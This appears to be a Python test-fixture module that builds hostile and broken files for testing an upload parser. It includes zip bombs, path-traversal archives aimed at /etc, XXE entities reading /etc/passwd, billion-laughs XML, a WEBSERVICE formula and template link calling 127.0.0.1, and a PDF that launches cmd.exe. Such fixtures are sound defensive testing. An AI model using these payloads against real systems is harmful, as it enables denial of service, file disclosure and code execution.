"""Files made to do harm, or broken on the way, each built when it is asked for.

Each says whether something may be read of it: a word of its text, or a word of the sentence it is refused with.
"""

import io
import json
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from tests.knowledge_base.files import a_docx, a_pdf, paragraph, pdf_bytes, replaced, xlsx, zipped
from tests.knowledge_base.quine import quine_zip


@dataclass(frozen=True, slots=True, kw_only=True)
class BadFile:
    """`told` stands in the refusal, or, where `reads`, in the text that is read all the same."""

    name: str
    build: Callable[[], bytes]
    told: str
    reads: bool = False


BAD_FILES: dict[str, BadFile] = {}

Build = Callable[[], bytes]


def bad(name: str, told: str, *, reads: bool = False) -> Callable[[Build], Build]:
    def registered(build: Build) -> Build:
        BAD_FILES[build.__name__] = BadFile(name=name, build=build, told=told, reads=reads)
        return build

    return registered


# Archives


@bad("bomb.zip", "made to do harm")
def zip_bomb() -> bytes:
    return zipped({"a.md": b"0" * 20_000_000})


@bad("bomb.zip", "unpacks to more than 200 MB")
def zip_of_many_large_files() -> bytes:
    packed = zipped(
        {f"{n}.md": zlib.compress(bytes([n]) * 10) * 5_000 for n in range(100)}, method=zipfile.ZIP_STORED
    )
    return _claiming_size(packed, 4_000_000)


@bad("nested.zip", "Unpack it")
def zip_in_a_zip_in_a_zip() -> bytes:
    inner = b"# Deep\n\nText."
    for depth in range(40):
        inner = zipped({f"{depth}.zip" if depth else "a.md": inner})
    return inner


@bad("quine.zip", "Unpack it")
def zip_that_holds_itself() -> bytes:
    return quine_zip()


@bad("overlap.zip", "made to do harm")
def zip_whose_files_share_their_bytes() -> bytes:
    content = zipped({f"{n}.md": b"0" * 50_000 for n in range(20)})
    directory = content.index(b"PK\x01\x02")
    head, entries = content[:directory], bytearray(content[directory:])
    at = 0
    while (at := entries.find(b"PK\x01\x02", at)) >= 0:
        struct.pack_into("<L", entries, at + 42, 0)  # every entry begins at the first
        at += 4
    return head + bytes(entries)


@bad("lies.zip", "damaged")
def zip_that_lies_about_a_size() -> bytes:
    return _claiming_size(zipped({"a.md": b"0" * 90_000}), 100)


@bad("many.zip", "more than 2,000 files")
def zip_of_many_files() -> bytes:
    return zipped({f"{n}.md": b"x" for n in range(5_000)}, method=zipfile.ZIP_STORED)


@bad("many.zip", "more than 2,000 files")
def zip_that_lies_about_its_count() -> bytes:
    content = bytearray(zipped({f"{'n' * 200}{n}.md": b"" for n in range(8_000)}, method=zipfile.ZIP_STORED))
    end = content.rindex(b"PK\x05\x06")
    struct.pack_into("<HH", content, end + 8, 1, 1)
    return bytes(content)


def _with_entry(name: str, *, mode: int = 0, method: int = zipfile.ZIP_DEFLATED, flags: int = 0) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        entry = zipfile.ZipInfo(name)
        entry.external_attr = mode << 16
        entry.compress_type = method
        archive.writestr(entry, "/etc/passwd")
    content = bytearray(buffer.getvalue())
    if flags:
        for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            struct.pack_into("<H", content, content.index(mark) + place, flags)
    return bytes(content)


@bad("link.zip", "holds a link")
def zip_with_a_symbolic_link() -> bytes:
    return _with_entry("a.md", mode=stat.S_IFLNK | 0o777)


@bad("up.zip", "points out of the archive")
def zip_that_climbs() -> bytes:
    return _with_entry("../../etc/cron.d/a.md")


@bad("up.zip", "points out of the archive")
def zip_that_climbs_as_windows_does() -> bytes:
    return _with_entry("a\\..\\..\\a.md")


@bad("root.zip", "points out of the archive")
def zip_with_a_rooted_name() -> bytes:
    return _with_entry("/etc/a.md")


@bad("drive.zip", "points out of the archive")
def zip_with_a_drive() -> bytes:
    return _with_entry("C:\\a.md")


@bad("locked.zip", "Remove the password")
def zip_with_a_password() -> bytes:
    return _with_entry("a.md", flags=1)


@bad("lzma.zip", "unusual way")
def zip_packed_by_another_method() -> bytes:
    return _with_entry("a.md", method=zipfile.ZIP_LZMA)


@bad("64.zip", "plain ZIP")
def zip_of_64_bits() -> bytes:
    content = zipped({"a.md": b"x"})
    end = content.rindex(b"PK\x05\x06")
    return content[:end] + b"PK\x06\x07" + b"\xff" * 16 + content[end:]


@bad("half.zip", "damaged")
def zip_cut_in_half() -> bytes:
    content = zipped({f"{n}.md": b"# Text\n\nof some length" for n in range(50)})
    return content[: len(content) // 2]


@bad("broken.zip", "damaged")
def zip_with_a_wrong_sum() -> bytes:
    content = bytearray(zipped({"a.md": b"# Text\n\nof some length"}, method=zipfile.ZIP_STORED))
    content[content.index(b"some")] ^= 0xFF
    return bytes(content)


@bad("empty.zip", "no file in it")
def zip_of_nothing() -> bytes:
    return zipped({})


@bad("names.zip", "Text", reads=True)
def zip_with_names_that_turn_around() -> bytes:
    return zipped({"invoice\u202efdp.md": "# A\n\nText."})


@bad("self.zip", "does not begin like one")
def zip_behind_a_picture() -> bytes:
    return b"\x00GIF" + zipped({"a.md": b"x"})


def _claiming_size(archive: bytes, size: int) -> bytes:
    """The archive with every header saying `size` for what it unpacks to."""
    content = bytearray(archive)
    for mark, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = 0
        while (at := content.find(mark, at)) >= 0:
            struct.pack_into("<L", content, at + place, size)
            at += 4
    return bytes(content)


# Office files

LAUGHS = b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha">' + b"".join(
    b'<!ENTITY %c "%s">' % (letter, b"&%c;" % (letter - 1) * 10) for letter in range(ord("b"), ord("k"))
)
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
S = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def _word(
    body: bytes, head: bytes = b'<?xml version="1.0"?>', *, method: int = zipfile.ZIP_DEFLATED
) -> bytes:
    document = head + b"<w:document " + W + b"><w:body>" + body + b"</w:body></w:document>"
    return replaced(a_docx(), {"word/document.xml": document}, method=method)


def _sheet(rows: bytes, *, before: bytes = b"", head: bytes = b'<?xml version="1.0"?>') -> bytes:
    sheet = head + b"<worksheet " + S + b">" + before + b"<sheetData>" + rows + b"</sheetData></worksheet>"
    return replaced(xlsx(Faq=[["Question", "Answer"]]), {"xl/worksheets/sheet1.xml": sheet})


def _cell(place: str, text: str) -> bytes:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'.encode()


HEAD_ROW = b'<row r="1">' + _cell("A1", "Question") + _cell("B1", "Answer") + b"</row>"
FAQ_ROW = b'<row r="2">' + _cell("A2", "How?") + _cell("B2", "By rail.") + b"</row>"


@bad("laughs.docx", "declares entities")
def docx_of_a_billion_laughs() -> bytes:
    return _word(b"<w:p><w:r><w:t>&j;</w:t></w:r></w:p>", LAUGHS + b"]>")


@bad("xxe.docx", "declares entities")
def docx_that_asks_for_a_file() -> bytes:
    return _word(b"<w:p><w:r><w:t>&f;</w:t></w:r></w:p>", XXE)


@bad("xxe.docx", "declares entities")
def docx_that_hides_its_entities_in_utf_16() -> bytes:
    document = (XXE.decode() + "<w:document/>").encode("utf-16")
    return replaced(a_docx(), {"word/document.xml": document})


@bad("xxe.docx", "declares entities")
def docx_with_entities_in_its_relations() -> bytes:
    return replaced(a_docx(), {"word/_rels/document.xml.rels": XXE + b"<Relationships/>"})


@bad("macro.docx", "without macros")
def docm_named_docx() -> bytes:
    return replaced(a_docx(), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


@bad("macro.docm", "This kind of file is not read")
def docm() -> bytes:
    return replaced(a_docx(), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


@bad("small.docx", "made to do harm")
def docx_that_inflates_hugely() -> bytes:
    return replaced(a_docx(), {"word/media/image1.bmp": b"\0" * 60_000_000})


@bad("small.docx", "made to do harm")
def docx_whose_text_inflates_hugely() -> bytes:
    paragraphs = (
        b"".join(b"<w:p><w:r><w:t>%032x</w:t></w:r></w:p>" % (n * 2**100 + n) for n in range(1000)) * 600
    )
    return _word(paragraphs)


@bad("deep.docx", "damaged")
def docx_nested_a_hundred_thousand_deep() -> bytes:
    return _word(b"<w:sdt><w:sdtContent>" * 100_000, method=zipfile.ZIP_STORED)


@bad("deep.docx", "damaged")
def docx_of_controls_within_controls() -> bytes:
    return _word(b"<w:sdt><w:sdtContent>" * 60 + b"<w:p/>" + b"</w:sdtContent></w:sdt>" * 60)


@bad("tables.docx", "Innermost", reads=True)
def docx_of_tables_within_tables() -> bytes:
    opened, closed = b"<w:tbl><w:tr><w:tc>", b"<w:p/></w:tc></w:tr></w:tbl>"
    return _word(opened * 60 + b"<w:p><w:r><w:t>Innermost</w:t></w:r></w:p>" + closed * 60)


@bad("many.docx", "more than 50,000 paragraphs")
def docx_of_sixty_thousand_paragraphs() -> bytes:
    return _word(b"".join(b"<w:p><w:r><w:t>%d</w:t></w:r></w:p>" % n for n in range(60_000)))


@bad("none.docx", "It is not a Word file")
def docx_without_its_document() -> bytes:
    return zipped({"[Content_Types].xml": b"<Types/>"})


@bad("broken.docx", "damaged")
def docx_of_broken_xml() -> bytes:
    return _word(b"<w:p><w:r></w:p>")


@bad("levels.docx", "Far", reads=True)
def docx_with_a_list_level_beyond_all_numbers() -> bytes:
    numbering = (
        b'<w:pPr><w:numPr><w:ilvl w:val="99999999999999999999"/><w:numId w:val="1"/></w:numPr></w:pPr>'
    )
    return _word(b"<w:p>" + numbering + b"<w:r><w:t>Far</w:t></w:r></w:p>")


@bad("template.docx", "Wash", reads=True)
def docx_that_would_fetch_a_template() -> bytes:
    relations = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Target="http://127.0.0.1:9/evil.dotm" TargetMode="External" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
        b"</Relationships>"
    )
    return replaced(a_docx(), {"word/_rels/settings.xml.rels": relations})


@bad("old.docx", "old or password-protected")
def doc_named_docx() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 5_000


@bad("half.docx", "damaged")
def docx_cut_in_half() -> bytes:
    content = a_docx()
    return content[: len(content) // 2]


@bad("laughs.xlsx", "declares entities")
def xlsx_of_a_billion_laughs() -> bytes:
    strings = LAUGHS + b"]><sst " + S + b"><si><t>&j;</t></si></sst>"
    return replaced(xlsx(Faq=[["Question", "Answer"]]), {"xl/sharedStrings.xml": strings})


@bad("xxe.xlsx", "declares entities")
def xlsx_that_asks_for_a_file() -> bytes:
    return _sheet(HEAD_ROW + b'<row r="2"><c r="A2"><v>&f;</v></c></row>', head=XXE)


@bad("claims.xlsx", "By rail.", reads=True)
def xlsx_that_claims_a_million_rows_and_all_columns() -> bytes:
    return _sheet(HEAD_ROW + FAQ_ROW, before=b'<dimension ref="A1:XFD1048576"/>')


@bad("far.xlsx", "By rail.", reads=True)
def xlsx_with_a_cell_in_the_last_corner() -> bytes:
    far = b'<row r="1048576">' + _cell("XFD1048576", "Far") + b"</row>"
    return _sheet(HEAD_ROW + FAQ_ROW + far)


@bad("beyond.xlsx", "damaged")
def xlsx_with_a_cell_beyond_all_columns() -> bytes:
    return _sheet(HEAD_ROW + b'<row r="2">' + _cell("ZZZZZZZ2", "Far") + b"</row>")


@bad("strings.xlsx", "damaged")
def xlsx_that_names_a_text_it_does_not_have() -> bytes:
    return _sheet(HEAD_ROW + b'<row r="2"><c r="A2" t="s"><v>99999999</v></c></row>')


@bad("large.xlsx", "made to do harm")
def xlsx_whose_texts_inflate_hugely() -> bytes:
    strings = b"<sst " + S + b">" + b"<si><t>x</t></si>" * 3_000_000 + b"</sst>"
    return replaced(xlsx(Faq=[["Question", "Answer"]]), {"xl/sharedStrings.xml": strings})


@bad("rows.xlsx", "Only the first 10,000 rows")
def xlsx_of_too_many_rows() -> bytes:
    rows = b"".join(
        b'<row r="%d"><c r="A%d"><v>%d</v></c><c r="B%d"><v>1</v></c></row>' % (n, n, n, n)
        for n in range(2, 12_000)
    )
    return _sheet(HEAD_ROW + rows)


@bad("macro.xlsx", "without macros")
def xlsm_named_xlsx() -> bytes:
    return replaced(xlsx(Faq=[["Question", "Answer"], ["a", "b"]]), {"xl/vbaProject.bin": b"x"})


@bad("formula.xlsx", "no answer")
def xlsx_of_formulas() -> bytes:
    return xlsx(Faq=[["Question", "Answer"], ["How?", '=WEBSERVICE("http://127.0.0.1:9/"&A1)']])


@bad("number.xlsx", "damaged")
def xlsx_with_a_number_that_is_none() -> bytes:
    return _sheet(HEAD_ROW + b'<row r="2"><c r="A2"><v>1e9x</v></c></row>')


# PDF


def _pdf(*objects: bytes, trailer: bytes = b"/Root 1 0 R", prev: bytes = b"") -> bytes:
    """A file of these objects, numbered from 1, with a table of where they are."""
    content = bytearray(b"%PDF-1.7\n")
    places = []
    for number, one in enumerate(objects, 1):
        places.append(len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    start = len(content)
    content += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    content += b"".join(b"%010d 00000 n \n" % place for place in places)
    content += b"trailer\n<< /Size %d %s %s >>\nstartxref\n%d\n%%%%EOF" % (
        len(objects) + 1,
        trailer,
        prev,
        start,
    )
    return bytes(content)


def _stream(content: bytes, more: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), more, content)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
FONT = b"/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>"
TEXT = b"BT /F1 12 Tf 72 700 Td (Readable) Tj ET"


def _one_page(contents: bytes, *more: bytes, resources: bytes = b"", page: bytes = b"") -> bytes:
    """One page with object 4 as its contents; further objects are numbered from 5."""
    return _pdf(
        CATALOG,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << %s %s >> %s >>"
        % (FONT, resources, page),
        contents,
        *more,
    )


@bad("flate.pdf", "made to do harm")
def pdf_flate_bomb() -> bytes:
    return _one_page(_stream(zlib.compress(b" " * 100_000_000, 1), b"/Filter /FlateDecode"))


@bad("flate.pdf", "made to do harm")
def pdf_flate_bomb_in_a_flate_bomb() -> bytes:
    packed = zlib.compress(zlib.compress(b"0" * 90_000_000, 1))
    return _one_page(_stream(packed, b"/Filter [/FlateDecode /FlateDecode]"))


@bad("run.pdf", "made to do harm")
def pdf_run_length_bomb() -> bytes:
    return _one_page(_stream(b"\x81 " * 1_000_000 + b"\x80", b"/Filter /RunLengthDecode"))


@bad("hex.pdf", "made to do harm")
def pdf_with_a_thousand_filters() -> bytes:
    return _one_page(_stream(b"30" * 1_000, b"/Filter [" + b"/ASCIIHexDecode " * 1_000 + b"]"))


@bad("predictor.pdf", "made to do harm")
def pdf_with_rows_of_a_billion_columns() -> bytes:
    packed = zlib.compress(TEXT)
    more = b"/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 1000000000 >>"
    return _one_page(_stream(packed, more))


@bad("filter.pdf", "damaged")
def pdf_with_an_unknown_filter() -> bytes:
    return _one_page(_stream(b"xyz", b"/Filter /NoSuchDecode"))


@bad("jbig2.pdf", "OCR")
def pdf_with_a_broken_jbig2_picture() -> bytes:
    picture = b"/Type /XObject /Subtype /Image /Width 99999 /Height 99999 /Filter /JBIG2Decode"
    return _one_page(
        _stream(b"q 612 0 0 792 0 0 cm /Im1 Do Q"),
        _stream(b"\x97JB2\xff\xff\xff", picture),
        resources=b"/XObject << /Im1 5 0 R >>",
    )


@bad("pages.pdf", "more than 2,000 pages")
def pdf_of_a_hundred_thousand_pages() -> bytes:
    kids = b" ".join(b"%d 0 R" % n for n in range(3, 100_003))
    pages = [b"<< /Type /Page /Parent 2 0 R >>"] * 100_000
    return _pdf(CATALOG, b"<< /Type /Pages /Kids [%s] /Count 100000 >>" % kids, *pages)


@bad("pages.pdf", "made to do harm")
def pdf_that_names_one_page_a_million_times() -> bytes:
    kids = b"3 0 R " * 1_000_000
    return _pdf(CATALOG, b"<< /Type /Pages /Kids [%s] /Count 1000000 >>" % kids, b"<< /Type /Page >>")


@bad("pages.pdf", "Readable", reads=True)
def pdf_that_claims_a_billion_pages() -> bytes:
    return _one_page(_stream(TEXT)).replace(b"/Count 1 ", b"/Count 999999999 ")


@bad("loop.pdf", "damaged")
def pdf_whose_pages_loop() -> bytes:
    return _pdf(
        CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"
    )


@bad("loop.pdf", "Readable", reads=True)
def pdf_whose_tables_loop() -> bytes:
    content = _one_page(_stream(TEXT))
    start = content.rindex(b"startxref\n") + 10
    place = content[start : content.index(b"\n", start)]
    return content.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev " + place)


@bad("loop.pdf", "too many marks")
def pdf_form_that_draws_itself() -> bytes:
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /Fm 5 0 R >> >>"
    return _one_page(
        _stream(b"/Fm Do"), _stream(b"/Fm Do " * 20, form), resources=b"/XObject << /Fm 5 0 R >>"
    )


@bad("forms.pdf", "too many marks")
def pdf_forms_that_double_thirty_times() -> bytes:
    forms = [
        _stream(
            b"/Fm Do /Fm Do" if number < 30 else TEXT,
            b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << %s /XObject << /Fm %d 0 R >> >>"
            % (FONT, 6 + number),
        )
        for number in range(31)
    ]
    return _one_page(_stream(b"/Fm Do"), *forms, resources=b"/XObject << /Fm 5 0 R >>")


@bad("marks.pdf", "too many marks")
def pdf_page_of_a_million_marks() -> bytes:
    return _one_page(_stream(zlib.compress(b"1 1 m\n" * 1_000_000), b"/Filter /FlateDecode"))


@bad("nested.pdf", "damaged")
def pdf_array_nested_a_hundred_thousand_deep() -> bytes:
    return _one_page(_stream(TEXT), page=b"/Annots " + b"[" * 100_000 + b"]" * 100_000)


@bad("nested.pdf", "damaged")
def pdf_contents_nested_a_hundred_thousand_deep() -> bytes:
    return _one_page(_stream(b"[" * 100_000 + b"]" * 100_000 + b" TJ"))


@bad("locked.pdf", "Remove the password")
def pdf_with_a_password() -> bytes:
    pdf = a_pdf()
    paragraph(pdf, "Locked.")
    pdf.set_encryption(owner_password="owner", user_password="user")
    return pdf_bytes(pdf)


@bad("half.pdf", "damaged")
def pdf_cut_in_half() -> bytes:
    pdf = a_pdf()
    for _ in range(30):
        paragraph(pdf, "Words of some length that take their place. " * 5)
    content = pdf_bytes(pdf)
    return content[: len(content) // 2]


@bad("begin.pdf", "damaged")
def pdf_of_its_first_line_alone() -> bytes:
    return b"%PDF-1.7\n"


@bad("start.pdf", "Readable", reads=True)
def pdf_that_starts_beyond_its_end() -> bytes:
    content = _one_page(_stream(TEXT))
    return content[: content.rindex(b"startxref")] + b"startxref\n99999999999\n%%EOF"


@bad("both.pdf", "Readable", reads=True)
def pdf_that_is_an_archive_too() -> bytes:
    return _one_page(_stream(TEXT)) + zipped({"a.md": b"# Other\n\nText."})


@bad("both.zip", "but it is a PDF")
def archive_that_is_a_pdf_too() -> bytes:
    return pdf_that_is_an_archive_too()


@bad("acts.pdf", "Readable", reads=True)
def pdf_that_would_start_a_program() -> bytes:
    return _one_page(_stream(TEXT)).replace(
        b"/Type /Catalog",
        b"/Type /Catalog /OpenAction << /S /Launch /F (cmd.exe) >> /AA << /WC << /S /JavaScript /JS (x) >> >>",
    )


@bad("cmap.pdf", "made to do harm")
def pdf_font_that_maps_four_billion_letters() -> bytes:
    cmap = b"1 begincodespacerange <00000000> <FFFFFFFF> endcodespacerange\n1 beginbfrange\n" + (
        b"<00000000> <FFFFFFFF> <0041>\nendbfrange"
    )
    font = b"<< /Type /Font /Subtype /Type0 /BaseFont /X /ToUnicode 5 0 R >>"
    page = _one_page(_stream(TEXT), _stream(cmap), font)
    return page.replace(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", b"6 0 R" + b" " * 45)


@bad("numbers.pdf", "made to do harm")
def pdf_with_numbers_beyond_all_bounds() -> bytes:
    return _one_page(_stream(b"9" * 5_000 + b" 0 0 1 0 0 cm\n" + b"q 1 0 0 1 0 0 cm Q\n" + TEXT))


# Texts


@bad("deep.html", "nested more than 256 deep")
def html_nested_a_hundred_thousand_deep() -> bytes:
    return b"<div>" * 100_000 + b"x"


@bad("deep.html", "nested more than 256 deep")
def html_of_unclosed_letters() -> bytes:
    return b"<b><i>" * 100_000 + b"x"


@bad("wide.html", "Seen", reads=True)
def html_with_an_attribute_of_a_megabyte() -> bytes:
    return b'<p style="' + b"color:red;" * 100_000 + b'">Seen</p>'


@bad("many.html", "Seen", reads=True)
def html_of_a_hundred_thousand_white_words() -> bytes:
    return b"<div><p>Seen</p>" + b'<span style="color:#fff">x</span>' * 50_000


@bad("table.html", "x", reads=True)
def html_of_tables_within_tables() -> bytes:
    return b"<table><tr><td>" * 80 + b"x"


@bad("entities.html", "&", reads=True)
def html_of_entities() -> bytes:
    return b"<p>" + b"&amp;" * 300_000


@bad("hostile.md", "has no text")
def markdown_of_quotes_within_quotes() -> bytes:
    return (b">" * 150 + b" a\n") * 3_000


@bad("hostile.md", "-", reads=True)
def markdown_of_lists_within_lists() -> bytes:
    return b"".join(b" " * (2 * n) + b"- a\n" for n in range(600))


@bad("hostile.md", "[", reads=True)
def markdown_of_brackets() -> bytes:
    return b"[" * 225_000 + b"](" * 112_000


@bad("hostile.md", "`", reads=True)
def markdown_of_ticks() -> bytes:
    return b" ".join(b"`" * n for n in range(1, 900))


@bad("hostile.md", "a", reads=True)
def markdown_of_links_to_links() -> bytes:
    return b"".join(b"[a%d]: <b%d>\n" % (n, n) for n in range(9_000)) + b"\n\na [a1][a2]"


@bad("alias.md", "front matter")
def markdown_whose_front_matter_multiplies() -> bytes:
    lines = ["a: &a [x,x,x,x,x,x,x,x,x]"] + [
        f"{b}: &{b} [{','.join([f'*{a}'] * 9)}]" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    ]
    return f"---\n{chr(10).join(lines)}\ntitle: [\n---\nText.".encode()


@bad("lines.md", "more than 10,000 lines")
def markdown_of_a_million_lines() -> bytes:
    return b"a\n" * 900_000


@bad("program.md", "looks like a program")
def program_named_markdown() -> bytes:
    return b"\x7fELF" + b"\0" * 1_000


@bad("packed.txt", "looks like a gzip archive")
def gzip_named_text() -> bytes:
    return b"\x1f\x8b\x08" + b"\0" * 100


@bad("picture.pdf", "it is a picture")
def picture_named_pdf() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + b"\0" * 100


@bad("page.docx", "does not begin like one")
def html_named_docx() -> bytes:
    return b"<html><body>Text</body></html>"


@bad("noise.txt", "not a text file")
def noise_named_text() -> bytes:
    return bytes(range(256)) * 500


@bad("wide.md", "not a text file")
def markdown_in_utf_16() -> bytes:
    return "# Title\n\nText.".encode("utf-16")


@bad("invoice\u202efdp\0.md", "Text", reads=True)
def name_with_marks_that_turn_around() -> bytes:
    return b"# A\n\nText."


@bad("x" * 20_000 + ".md", "Give it a shorter one")
def name_of_twenty_thousand_letters() -> bytes:
    return b"# A\n\nText."


@bad("README", "This kind of file is not read")
def name_without_an_ending() -> bytes:
    return b"# A\n\nText."


@bad("deep.jsonl", "not valid JSON")
def jsonl_nested_a_hundred_thousand_deep() -> bytes:
    return b'{"id": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"


@bad("number.jsonl", "not valid JSON")
def jsonl_with_a_number_of_a_million_digits() -> bytes:
    return b'{"id": ' + b"9" * 1_000_000 + b', "title": "T", "text": "X"}'


@bad("many.jsonl", "line")
def jsonl_of_broken_lines_alone() -> bytes:
    return b"{\n" * 15_000


@bad("big.jsonl", "2 MB")
def jsonl_with_a_text_of_ten_megabytes() -> bytes:
    return json.dumps({"id": "1", "title": "T", "text": "word " * 2_000_000}).encode()


@bad("cell.csv", "larger than 25 MB")
def csv_cell_of_thirty_megabytes() -> bytes:
    return b'question,answer\nHow?,"' + b"word " * 6_000_000 + b'"\n'


@bad("cell.csv", "A cell has more than")
def csv_cell_of_four_megabytes() -> bytes:
    return b'question,answer\nHow?,"' + b"word " * 900_000 + b'"\n'


@bad("quote.csv", "A cell has more than")
def csv_quotation_that_never_ends() -> bytes:
    return b'question,answer\nHow?,"So\n' + b"Why?,Because\n" * 200_000


@bad("wide.csv", "100 columns")
def csv_of_a_million_columns() -> bytes:
    return b"question,answer" + b",x" * 1_000_000 + b"\nHow?,So\n"


@bad("rows.csv", "more than 10,000 rows")
def csv_of_half_a_million_rows() -> bytes:
    return b"question,answer\n" + b"a,b\n" * 500_000


@bad("nul.csv", "not a text file")
def csv_of_zeros() -> bytes:
    return b"question,answer\n" + b"\0" * 100_000


@bad("sheet.csv", "looks like a ZIP or Office file")
def xlsx_named_csv() -> bytes:
    return xlsx(Faq=[["Question", "Answer"], ["a", "b"]])
